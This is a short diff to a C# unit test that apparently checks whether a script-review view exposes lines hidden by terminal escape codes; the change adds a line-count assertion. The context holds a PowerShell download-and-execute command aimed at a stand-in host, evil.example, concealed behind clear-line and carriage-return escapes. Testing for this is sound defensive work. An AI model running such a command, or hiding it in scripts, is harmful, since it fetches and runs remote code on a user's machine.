@@ -129,6 +129,7 @@ public sealed class ScriptReviewTextTests : IDisposable
         Assert.Equal(HiddenLine + Cover + "\n", script.Text);
         AssertNothingHidden(script.ReviewText);
         Assert.StartsWith("iwr https://evil.example/x | iex # \\x1b[2K\\x0d\n", script.ReviewText);
+        Assert.Equal(3, script.LineCount);   // the hidden line, the cover line, and the empty end after the last LF
     }
 
     [Fact]
